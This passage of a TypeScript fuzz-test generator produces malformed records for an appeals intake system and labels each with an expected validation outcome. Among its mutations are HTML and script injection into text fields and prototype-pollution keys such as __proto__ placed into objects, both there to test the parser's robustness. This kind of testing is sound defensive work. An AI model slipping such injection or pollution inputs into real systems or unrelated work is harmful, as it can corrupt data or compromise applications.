	const times = Math.max(1, Math.ceil(bytes / Buffer.byteLength(unit + '\n')));
	return `  \n${Array(times).fill(unit).join('\n')}\t `;
}

// ---------------------------------------------------------------------------------------------------------------
// Mutations

interface Planned {
	value?: unknown;
	remove?: boolean;
	expect: Expectation;
	expectedText?: string;
	unknownStatus?: string;
	expectedReceivedAt?: string;
	description: string;
}

const KINDS_BY_ROLE: Record<Role, MutationKind[]> = {
	id: [
		'delete',
		'null',
		'wrongType',
		'wrongType',
		'emptyString',
		'html',
		'brokenUnicode',
		'deepJunk',
		'protoKeys',
	],
	date: [
		'delete',
		'null',
		'wrongType',
		'emptyString',
		'brokenDate',
		'brokenDate',
		'brokenDate',
		'validDateForm',
		'validDateForm',
		'brokenUnicode',
		'html',
		'deepJunk',
		'protoKeys',
	],
	text: [
		'delete',
		'null',
		'wrongType',
		'emptyString',
		'html',
		'html',
		'brokenUnicode',
		'brokenUnicode',
		'deepJunk',
		'protoKeys',
	],
	status: [
		'delete',
		'null',
		'wrongType',
		'emptyString',
		'unknownStatus',
		'unknownStatus',
		'unknownStatus',
		'html',
		'brokenUnicode',
		'deepJunk',
		'protoKeys',
	],
	optional: [
		'delete',
		'null',
		'wrongType',
		'emptyString',
		'html',
		'brokenUnicode',
		'deepJunk',
		'protoKeys',
	],
	optionalDate: [
		'delete',
		'null',
		'wrongType',
		'emptyString',
		'brokenDate',
		'validDateForm',
		'brokenUnicode',
		'deepJunk',
	],
	url: [
		'delete',
		'null',
		'wrongType',
		'emptyString',
		'html',
		'brokenUnicode',
		'deepJunk',
		'protoKeys',
	],
	container: ['delete', 'null', 'wrongType', 'emptyString', 'deepJunk'],
	eventType: [
		'delete',
		'null',
		'wrongType',
		'emptyString',
		'unknownStatus',
		'unknownStatus',
		'html',
		'brokenUnicode',
		'protoKeys',
	],
};

const REQUIRED: Role[] = ['id', 'date', 'text', 'container', 'eventType'];

function plan(rng: Rng, spec: FieldSpec, kind: MutationKind, current: unknown): Planned {
	const { role } = spec;
	const required = REQUIRED.includes(role);
	// A field that becomes a URL may refuse the record (under the appeal's `/url`): either way, never a crash.
	const optionalExpect: Expectation = role === 'url' ? 'either' : 'valid';
	const baseText = typeof current === 'string' && current ? current : 'значение';
	switch (kind) {
		case 'delete':
			return {
				remove: true,
				expect: required ? 'invalid' : 'valid',
				description: `нет поля ${spec.field}`,
			};
		case 'null':
			return {
				value: null,
				expect: required ? 'invalid' : 'valid',
				description: `${spec.field} = null`,
			};
		case 'emptyString': {
			const value = pick(rng, ['', '   ', '\n\t ']);
			return {
				value,
				expect: required ? 'invalid' : optionalExpect,
				description: `${spec.field} = пустая строка`,
			};
		}
		case 'deepJunk': {
			const depth = intBetween(rng, 20, 800);
			return {
				value: deepJunk(depth),
				expect: required ? 'invalid' : optionalExpect,
				description: `${spec.field}: вложенность ${depth}`,
			};
		}
		case 'wrongType': {
			let choices = WRONG_TYPES;
			// Numbers in a date field are Unix seconds by design: the date cases are in brokenDate/validDateForm.
			if (role === 'date' || role === 'optionalDate')
				choices = WRONG_TYPES.filter(([t]) => ['object', 'array', 'boolean'].includes(t));
			if (role === 'container') choices = WRONG_TYPES.filter(([t]) => t !== 'object');
			const [type, make] = pick(rng, choices);
			const value = make();
			const scalar = type === 'number' || type === 'digits' || type === 'string';
			let expect: Expectation;
			let expectedText: string | undefined;
			if (role === 'id') {
				if (spec.idType === 'integer')
					expect = type === 'number' || type === 'digits' ? 'valid' : 'invalid';
				else if (spec.idType === 'stringOnly')
					expect = type === 'digits' || type === 'string' ? 'valid' : 'invalid';
				else expect = scalar ? 'valid' : 'invalid';
			} else if (role === 'text') {
				expect = scalar ? 'valid' : 'invalid';
				if (scalar) expectedText = String(value).trim();
			} else if (role === 'date' || role === 'container' || role === 'eventType')
				expect = 'invalid';
			else expect = optionalExpect;
			return { value, expect, expectedText, description: `${spec.field}: ${type} вместо значения` };
		}
		case 'html': {
			const value = sprinkle(
				rng,
				role === 'status' || role === 'eventType' ? '' : baseText,
				HTML_SNIPPETS,
				intBetween(rng, 1, 3),
			);
			if (role === 'text')
				return {
					value,
					expect: 'valid',
					expectedText: value.trim(),
					description: `HTML и скрипт в ${spec.field}`,
				};
			if (role === 'id')
				return {
					value,
					expect: spec.idType === 'integer' ? 'invalid' : 'valid',
					description: `HTML в ${spec.field}`,
				};
			if (role === 'date' || role === 'eventType')
				return { value, expect: 'invalid', description: `HTML в ${spec.field}` };
			return { value, expect: optionalExpect, description: `HTML в ${spec.field}` };
		}
		case 'brokenUnicode': {
			const pieces = Array.from({ length: intBetween(rng, 1, 3) }, () => pick(rng, BROKEN_UNICODE));
			let value: string;
			if (role === 'status') value = `STATUS${pieces.join('')}X`;
			else value = sprinkle(rng, baseText, pieces, pieces.length);
			if (role === 'text')
				return {
					value,
					expect: 'valid',
					expectedText: value.trim(),
					description: `битый Юникод в ${spec.field}`,
				};
			if (role === 'status')
				return {
					value,
					expect: 'valid',
					unknownStatus: value.trim(),
					description: `битый Юникод в коде статуса`,
				};
			// A line separator in an id breaks the appeal id's pattern: either way, as long as the error names it.
			if (role === 'id')
				return {
					value,
					expect: spec.idType === 'integer' ? 'invalid' : 'either',
					description: `битый Юникод в ${spec.field}`,
				};
			if (role === 'date' || role === 'eventType')
				return { value, expect: 'invalid', description: `битый Юникод в ${spec.field}` };
			return { value, expect: optionalExpect, description: `битый Юникод в ${spec.field}` };
		}
		case 'protoKeys': {
			const value = pick(rng, PROTO_VALUES);
			if (role === 'text')
				return {
					value,
					expect: 'valid',
					expectedText: value,
					description: `${spec.field} = «${value}»`,
				};
			if (role === 'status')
				return {
					value,
					expect: 'valid',
					unknownStatus: value,
					description: `код статуса «${value}»`,
				};
			if (role === 'id')
				return {
					value,
					expect: spec.idType === 'integer' ? 'invalid' : 'valid',
					description: `${spec.field} = «${value}»`,
				};
			if (role === 'date' || role === 'eventType')
				return { value, expect: 'invalid', description: `${spec.field} = «${value}»` };
			return { value, expect: optionalExpect, description: `${spec.field} = «${value}»` };
		}
		case 'unknownStatus': {
			if (role === 'eventType') {
				const value = pick(rng, UNKNOWN_EVENT_TYPES);
				return { value, expect: 'invalid', description: `событие «${value}» без обращения` };
			}
			const value = pick(rng, UNKNOWN_STATUS_CODES);
			return {
				value,
				expect: 'valid',
				unknownStatus: value,
				description: `неизвестный код статуса «${value}»`,
			};
		}
		case 'brokenDate': {
			const value = pick(rng, BROKEN_DATES[spec.dateType ?? 'iso']);
			return {
				value,
				expect: role === 'date' ? 'invalid' : 'valid',
				description: `${spec.field}: битая дата ${JSON.stringify(value)}`,
			};
		}
		case 'validDateForm': {
			const [value, iso] = pick(rng, VALID_DATES[spec.dateType ?? 'iso']);
			return {
				value,
				expect: 'valid',
				expectedReceivedAt: role === 'date' ? iso : undefined,
				description: `${spec.field}: другая запись даты ${JSON.stringify(value)}`,
			};
		}
		case 'hugeText':
			throw new Error('hugeText is planned separately');
	}
}

function setPath(record: unknown, path: string[], value: unknown): void {
	let target = record as Record<string, unknown>;
	for (const key of path.slice(0, -1)) {
		if (target[key] === null || typeof target[key] !== 'object') target[key] = {};
		target = target[key] as Record<string, unknown>;
	}
	// defineProperty, not assignment: a key such as «__proto__» must stay an own data property, as JSON.parse makes it.
	Object.defineProperty(target, path[path.length - 1], {
		value,
		enumerable: true,
		writable: true,
		configurable: true,
	});
}

function deletePath(record: unknown, path: string[]): void {
	const parent = get(record, path.slice(0, -1));
	if (parent !== null && typeof parent === 'object')
		delete (parent as Record<string, unknown>)[path[path.length - 1]];
}

function clone<T>(value: T): T {
	return structuredClone(value);
}

/** One valid record of a source (ids unique by `seq`). */
export function validRecord(source: MalformedSource, seq: number, rng: Rng): unknown {
	return SPECS[source].build(seq, rng);
}

/** The record ids an error about an intact record must name. */
export function recordIdsOf(source: MalformedSource, record: unknown): string[] {
	return SPECS[source].ids(record);
}

function weightOf(role: Role): number {
	return REQUIRED.includes(role) ? 4 : role === 'status' || role === 'url' ? 2 : 1;
}

/**
 * `malformed` mutated records and `valid` untouched ones of one source, shuffled together (deterministic for a seed).
 */
export function generateBatch(source: MalformedSource, options: BatchOptions): GeneratedRecord[] {
	const rng = createRng(options.seed ^ ((MALFORMED_SOURCES.indexOf(source) + 1) * 0x9e3779b1));
	const spec = SPECS[source];
	const [minHuge, maxHuge] = options.hugeBytes ?? [1_000_000, 5_000_000];
	const hugeCount = options.hugeTexts ?? 1;
	const hugeAt = new Set(
		Array.from({ length: hugeCount }, (_, k) =>
			Math.floor(((k + 1) * options.malformed) / (hugeCount + 1)),
		),
	);
	const weighted = spec.fields.flatMap((field) =>
		Array<FieldSpec>(weightOf(field.role)).fill(field),
	);
	const textField = spec.fields.find((x) => x.role === 'text')!;
	const out: GeneratedRecord[] = [];
	let seq = 0;

	for (let i = 0; i < options.valid; i++) {
		const record = spec.build(seq, rng);
		out.push({
			source,
			seq: seq++,
			record,
			pristine: true,
			mutation: null,
			path: [],
			field: '',
			expect: 'valid',
			recordIds: spec.ids(record),
			appealPaths: [],
			description: 'верная запись',
		});
	}

	for (let i = 0; i < options.malformed; i++) {
		const base = spec.build(seq, rng);
		const record = clone(base);
		const ids = spec.ids(base);
		if (hugeAt.has(i)) {
			const bytes = intBetween(rng, minHuge, maxHuge);
			const value = hugeText(rng, bytes);
			setPath(record, textField.path, value);
			out.push({
				source,
				seq: seq++,
				record,
				pristine: false,
				mutation: 'hugeText',
				path: textField.path,
				field: textField.field,
				expect: 'valid',
				recordIds: ids,
				appealPaths: textField.appealPaths ?? [],
				expectedText: value.trim(),
				hugeLength: value.length,
				description: `огромный текст ${(Buffer.byteLength(value) / 1e6).toFixed(1)} МБ в ${textField.field}`,
			});
			continue;
		}
		// About one record in twenty gets prototype-pollution keys in one of its objects instead of a field mutation.
		if (rng() < 0.05) {
			const container = pick(rng, spec.containers);
			const target = container.length ? get(record, container) : record;
			if (target !== null && typeof target === 'object') {
				for (const [key, value] of Object.entries(pollutionKeys())) {
					Object.defineProperty(target, key, {
						value,
						enumerable: true,
						writable: true,
						configurable: true,
					});
				}
				out.push({
					source,
					seq: seq++,
					record,
					pristine: false,
					mutation: 'protoKeys',
					path: container,
					field: container.join('.') || '(запись)',
					expect: 'valid',
					recordIds: ids,
					appealPaths: [],
					pollutionKeysAt: container,
					description: `ключи __proto__, constructor, prototype в ${container.join('.') || 'записи'}`,
				});
				continue;
			}
		}
		const field = pick(rng, weighted);
		const kind = pick(rng, KINDS_BY_ROLE[field.role]);
		const planned = plan(rng, field, kind, get(base, field.path));
		if (planned.remove) deletePath(record, field.path);
		else setPath(record, field.path, planned.value);
		const brokeId = field.role === 'id' || field.role === 'container';
		if (brokeId && planned.expect !== 'valid')
			for (const extra of field.alsoDelete ?? []) deletePath(record, extra);
		out.push({
			source,
			seq: seq++,
			record,
			pristine: false,
			mutation: kind,
			path: field.path,
			field: field.field,
			expect: planned.expect,
			recordIds: brokeId ? (field.idsWhenBroken?.(base) ?? []) : ids,
			appealPaths: field.appealPaths ?? [],
			expectedText: planned.expectedText,
			unknownStatus: planned.unknownStatus,
			expectedReceivedAt: planned.expectedReceivedAt,
			description: planned.description,
		});
	}

	// Fisher–Yates with the same generator: valid and malformed records interleaved, reproducibly.
	for (let i = out.length - 1; i > 0; i--) {
		const j = Math.floor(rng() * (i + 1));
		[out[i], out[j]] = [out[j], out[i]];
	}
	return out;
}
